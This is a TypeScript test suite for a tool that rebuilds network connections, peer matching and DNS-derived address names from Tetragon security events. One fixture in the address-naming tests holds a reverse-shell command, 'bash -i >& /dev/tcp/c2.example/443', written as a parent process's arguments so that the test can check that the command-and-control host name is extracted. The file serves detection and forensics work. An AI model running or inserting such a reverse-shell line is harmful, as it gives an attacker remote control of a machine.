import { describe, expect, it } from 'vitest';
import type { Connection } from '../../src/model/connection.js';
import { NO_FILTER } from '../../src/model/filter.js';
import type { WritableCase } from '../../src/store/write.js';
import {
  type Actor,
  type ContainerInStory,
  dnsLine,
  enterpriseLine,
  enterpriseListenLine,
  execLine,
  exitLine,
  hookAcceptLine,
  hookLine,
  kprobeLine,
} from '../tetragon-lines.js';
import { caseOf } from './case-of.js';
import { CONTAINERS } from './drawn-tree.js';

const inside = (container: ContainerInStory | undefined) => (container === undefined ? {} : { container });
const shim: Actor = { pid: 10, at: 5, binary: '/bin/shim' };
const crawler: Actor = { pid: 200, at: 10, binary: '/bin/node', parent: shim, ...inside(CONTAINERS.web) };
const server: Actor = { pid: 400, at: 12, binary: '/bin/php', parent: shim, ...inside(CONTAINERS.db) };
const away: Actor = { ...server, node: 'node-2', parent: { ...shim, node: 'node-2' } };

const CLIENT = '10.0.0.1:40000';
const SERVER = '10.0.0.2:80';
const SERVICE = '10.96.0.7:80';
const toServer = { local: CLIENT, remote: SERVER, cookie: '1' };
const atServer = { local: SERVER, remote: CLIENT, cookie: '2' };
/** Tells the server's address: its own socket to somewhere else. */
const serverCalls = hookLine(server, 'tcp_connect', { local: '10.0.0.2:50000', remote: '203.0.113.9:443', cookie: '77', at: 20 });

function written({ direction, local, remote, remoteNames, scope, attempts, peer, remotePod, ...rest }: Connection): string {
  const end = (one: typeof local) => (one === undefined ? '?' : `${one.ip}:${one.port}`);
  return [
    rest.process.binary?.split('/').at(-1),
    `${end(local)} ${{ outbound: '>', inbound: '<', listen: '*' }[direction]}${direction === 'listen' ? '' : ` ${end(remote)}`}`,
    ...(scope === undefined ? [] : [scope]),
    ...remoteNames.map(({ name, from }) => `${name} (${from})`),
    ...(remotePod === undefined ? [] : [`in ${remotePod}${rest.remotePodIsInferred ? '?' : ''}`]),
    ...(attempts === 1 ? [] : [`×${attempts}`]),
    ...(peer === undefined ? [] : [`= ${peer.process.binary?.split('/').at(-1)} of ${peer.pod ?? 'host'}`]),
  ].join(' ');
}

function connectionsOf(store: WritableCase): readonly string[] {
  return store.view.connections(NO_FILTER, { limit: 100 }).rows.map(written);
}

describe('both ends of a connection', () => {
  it.each<[string, readonly string[], readonly string[]]>([
    [
      'find each other by their addresses',
      [hookLine(crawler, 'tcp_connect', { ...toServer, at: 100 }), hookAcceptLine(server, { ...atServer, at: 100.001 })],
      [`node ${CLIENT} > ${SERVER} cluster in db-pod? = php of db-pod`, `php ${SERVER} < ${CLIENT} cluster in web-pod? = node of web-pod`],
    ],
    [
      "find each other though the client called a service: the server's remote end is the client's local one",
      [hookLine(crawler, 'tcp_connect', { ...toServer, remote: SERVICE, at: 100 }), hookAcceptLine(server, { ...atServer, at: 100.001 })],
      [`node ${CLIENT} > ${SERVICE} cluster in db-pod? = php of db-pod`, `php ${SERVER} < ${CLIENT} cluster in web-pod? = node of web-pod`],
    ],
    [
      'find each other on two nodes whose clocks differ by seconds',
      [hookLine(crawler, 'tcp_connect', { ...toServer, at: 100 }), hookAcceptLine(away, { ...atServer, at: 97 })],
      [`php ${SERVER} < ${CLIENT} cluster in web-pod? = node of web-pod`, `node ${CLIENT} > ${SERVER} cluster in db-pod? = php of db-pod`],
    ],
    [
      'do not find each other minutes apart: the port was used again',
      [hookLine(crawler, 'tcp_connect', { ...toServer, at: 100 }), hookAcceptLine(server, { ...atServer, at: 160 })],
      [`node ${CLIENT} > ${SERVER} cluster in db-pod?`, `php ${SERVER} < ${CLIENT} cluster in web-pod?`],
    ],
    [
      'of Enterprise, where an accept names no client, are joined with the close that does',
      [
        enterpriseListenLine(server, 13, '0.0.0.0:80'),
        enterpriseLine('process_connect', crawler, { ...toServer, at: 100 }),
        enterpriseLine('process_accept', server, { local: '0.0.0.0:80', remote: '0.0.0.0:0', at: 100.001 }),
        enterpriseLine('process_close', server, { ...atServer, at: 101, sent: 7 }),
      ],
      [
        'php 0.0.0.0:80 *',
        `node ${CLIENT} > ${SERVER} cluster in db-pod? = php of db-pod`,
        `php ${SERVER} < ${CLIENT} cluster in web-pod? = node of web-pod`,
      ],
    ],
    [
      'of Enterprise, where nothing names the client, are joined by port and time',
      [
        serverCalls,
        enterpriseLine('process_connect', crawler, { ...toServer, at: 100 }),
        enterpriseLine('process_accept', server, { local: '0.0.0.0:80', remote: '0.0.0.0:0', at: 100.2 }),
      ],
      [
        'php 10.0.0.2:50000 > 203.0.113.9:443 external',
        `node ${CLIENT} > ${SERVER} cluster in db-pod? = php of db-pod`,
        `php 0.0.0.0:80 < ${CLIENT} cluster in web-pod? = node of web-pod`,
      ],
    ],
    [
      'on loopback are of one container',
      [
        hookLine(crawler, 'tcp_connect', { local: '127.0.0.1:40000', remote: '127.0.0.1:80', cookie: '1', at: 100 }),
        hookAcceptLine(server, { local: '127.0.0.1:80', remote: '127.0.0.1:40000', cookie: '2', at: 100.001 }),
      ],
      ['node 127.0.0.1:40000 > 127.0.0.1:80 loopback', 'php 127.0.0.1:80 < 127.0.0.1:40000 loopback'],
    ],
  ])('%s', async (_sentence, lines, expected) => {
    expect(connectionsOf(await caseOf([execLine(crawler), execLine(server), ...lines]))).toEqual(expected);
  });

  it('point at each other', async () => {
    const store = await caseOf([
      hookLine(crawler, 'tcp_connect', { ...toServer, at: 100 }),
      hookAcceptLine(server, { ...atServer, at: 100.001 }),
    ]);
    const [one, two] = store.view.connections(NO_FILTER, { limit: 9 }).rows;
    expect([one?.peer?.connectionId, two?.peer?.connectionId]).toEqual([two?.id, one?.id]);
  });

  it('join no accept that found nobody, and show those as one row', async () => {
    const blind = (at: number) => enterpriseLine('process_accept', server, { local: '0.0.0.0:80', remote: '0.0.0.0:0', at });
    expect(connectionsOf(await caseOf([blind(100), blind(101), blind(102)]))).toEqual(['php 0.0.0.0:80 < ? ×3']);
  });
});

describe('where the other end is', () => {
  it.each<[string, string, string]>([
    ['outside', '203.0.113.7:443', 'external'],
    ['in a private range', '10.99.0.1:443', 'private'],
    ['on loopback', '127.0.0.1:443', 'loopback'],
    ['in another container, by the address of its own sockets', '10.0.0.2:443', 'cluster in db-pod?'],
  ])('%s', async (_where, remote, scope) => {
    const store = await caseOf([serverCalls, hookLine(crawler, 'tcp_connect', { local: CLIENT, remote, cookie: '1', at: 100 })]);
    expect(connectionsOf(store)).toContain(`node ${CLIENT} > ${remote} ${scope}`);
  });

  it('is the pod that the event names', async () => {
    const more = { destination_pod: { namespace: 'kube-system', name: 'coredns-1', workload: 'coredns' } };
    const store = await caseOf([enterpriseLine('process_connect', crawler, { ...toServer, remote: '10.5.0.1:53', at: 100, more })]);
    expect(store.view.connections(NO_FILTER, { limit: 9 }).rows).toMatchObject([
      { scope: 'cluster', remoteNamespace: 'kube-system', remotePod: 'coredns-1', remoteWorkload: 'coredns', remotePodIsInferred: false },
    ]);
  });

  it('is no container whose address two containers have', async () => {
    const store = await caseOf([
      hookLine(crawler, 'tcp_connect', { local: '192.168.0.9:1000', remote: '203.0.113.9:443', cookie: '1', at: 20 }),
      hookLine(server, 'tcp_connect', { local: '192.168.0.9:1001', remote: '203.0.113.9:443', cookie: '2', at: 21 }),
    ]);
    expect(store.view.containers().map(({ addresses }) => addresses)).toEqual([[], []]);
  });
});

describe('the name of an address', () => {
  const connect = (at: number, remote = '203.0.113.7:443', actor = crawler, names?: readonly string[]) =>
    enterpriseLine('process_connect', actor, { local: CLIENT, remote, cookie: '1', at, ...(names === undefined ? {} : { names }) });
  const answer = (actor: Actor, at: number, name: string) => dnsLine(actor, at, { name, ips: ['203.0.113.7'] });

  it.each<[string, readonly string[], string]>([
    [
      'is what the event says, whatever answers say',
      [answer(crawler, 99, 'dns.example'), connect(100, undefined, crawler, ['event.example.'])],
      'event.example (event)',
    ],
    [
      'is the last answer to the same container before',
      [answer(crawler, 90, 'old.example'), answer(crawler, 99, 'new.example'), connect(100)],
      'new.example (dns)',
    ],
    [
      "is the container's own answer before another's later one",
      [answer(crawler, 90, 'own.example'), answer(server, 99, 'other.example'), connect(100)],
      'own.example (dns)',
    ],
    ["is another container's answer when there is no own", [answer(server, 99, 'other.example'), connect(100)], 'other.example (derived)'],
    ['is an own answer that came just after', [connect(100), answer(crawler, 101, 'after.example')], 'after.example (derived)'],
    ['is no answer that came minutes after', [connect(100), answer(crawler, 300, 'after.example')], ''],
    ['is not an answer for another address', [dnsLine(crawler, 99, { name: 'x.example', ips: ['203.0.113.8'] }), connect(100)], ''],
    ['is not what was asked without an answer', [dnsLine(crawler, 99, { name: 'x.example', rcode: 3 }), connect(100)], ''],
    [
      'is what the arguments give with that port',
      [connect(100, undefined, { ...crawler, arguments: '-s https://arg.example/x' })],
      'arg.example (derived)',
    ],
    [
      "is what a parent's arguments give with that port",
      [
        connect(100, undefined, {
          ...crawler,
          pid: 201,
          at: 50,
          arguments: '-i',
          parent: { ...crawler, arguments: '-c bash -i >& /dev/tcp/c2.example/443' },
        }),
      ],
      'c2.example (derived)',
    ],
    [
      'is none when the arguments give two',
      [connect(100, undefined, { ...crawler, arguments: 'https://a.example https://b.example' })],
      '',
    ],
    [
      'is none from arguments when the process called two addresses at that port',
      [
        connect(100, undefined, { ...crawler, arguments: 'https://a.example' }),
        hookLine({ ...crawler, arguments: 'https://a.example' }, 'tcp_connect', {
          local: '10.0.0.1:40001',
          remote: '203.0.113.8:443',
          cookie: '9',
          at: 101,
        }),
      ],
      '',
    ],
  ])('%s', async (_sentence, lines, expected) => {
    const store = await caseOf(lines);
    const [connection] = store.view.connections(NO_FILTER, { limit: 9 }).rows;
    expect(connection?.remoteNames.map(({ name, from }) => `${name} (${from})`).join()).toBe(expected);
    for (const { from, note } of connection?.remoteNames ?? []) expect(note === undefined).toBe(from !== 'derived');
  });

  it('carries the evidence of the answer it came from', async () => {
    const store = await caseOf([answer(crawler, 99, 'dns.example'), connect(100)]);
    expect(store.view.connections(NO_FILTER, { limit: 9 }).rows[0]?.remoteNames).toMatchObject([{ evidence: { line: 1 } }]);
  });
});

describe('a socket', () => {
  it('of a fork that execs later is of that process: kprobe, Enterprise and close are one row', async () => {
    const bash: Actor = { ...crawler, pid: 300, at: 50, binary: '/bin/bash', parent: crawler };
    const clone: Actor = { ...bash, pid: 301, at: 60, flags: 'execve', parent: bash };
    const shell: Actor = { ...bash, pid: 301, at: 60.01, arguments: '-i', parent: bash };
    const socket = { local: CLIENT, remote: '203.0.113.7:8531', cookie: '5' };
    const store = await caseOf([
      execLine(bash),
      hookLine(clone, 'tcp_connect', { ...socket, at: 60.005 }),
      execLine(shell),
      hookLine(shell, 'tcp_sendmsg', { ...socket, at: 70, sent: 12 }),
      hookLine(shell, 'tcp_close', { ...socket, at: 80 }),
      exitLine(shell, 80.1),
    ]);
    const { rows } = store.view.connections(NO_FILTER, { limit: 9 });
    expect(rows).toMatchObject([
      { process: { pid: 301, arguments: '-i' }, bytesSent: 12, evidence: [{ line: 2 }, { line: 4 }, { line: 5 }] },
    ]);
    expect(store.view.process(rows[0]?.process.id ?? 0)?.connectionCount).toBe(1);
  });

  it('keeps its 64-bit id exactly', async () => {
    const store = await caseOf([hookLine(crawler, 'tcp_connect', { ...toServer, cookie: '18446613424241941249', at: 100 })]);
    expect(store.view.connections(NO_FILTER, { limit: 9 }).rows[0]?.cookie).toBe('18446613424241941249');
  });

  it('of a call of connect alone has no local end', async () => {
    const call = kprobeLine(crawler, 'security_socket_connect', 100, [
      { sockaddr_arg: { family: 'AF_INET', addr: '203.0.113.7', port: 443 } },
    ]);
    expect(connectionsOf(await caseOf([call]))).toEqual(['node ? > 203.0.113.7:443 external']);
  });
});
